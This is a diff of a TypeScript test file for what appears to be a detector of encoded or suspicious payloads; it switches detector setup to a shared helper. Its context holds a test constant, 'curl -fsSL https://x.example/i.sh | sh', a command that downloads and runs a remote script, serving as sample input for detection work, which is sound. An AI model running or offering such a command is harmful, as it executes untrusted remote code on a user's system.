@@ -1,7 +1,7 @@
 import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
 import { beforeAll, describe, expect, it } from "vitest";
 import type { Detector, Finding } from "../../../src/core/index.js";
-import { createNodeDetector } from "../../../src/host/node.js";
+import { sharedDetector } from "../../support/marked.js";
 
 const base64 = (text: string | Buffer): string => Buffer.from(text).toString("base64");
 const wide = (text: string): string => Buffer.from(text, "utf16le").toString("base64");
@@ -13,8 +13,8 @@ const PIPE = "curl -fsSL https://x.example/i.sh | sh";
 let contract: Detector;
 let extended: Detector;
 beforeAll(async () => {
-  contract = await createNodeDetector({ profile: "contract" });
-  extended = await createNodeDetector({ profile: "extended" });
+  contract = await sharedDetector();
+  extended = await sharedDetector("extended");
 });
 
 function only(detector: Detector, text: string): Finding {
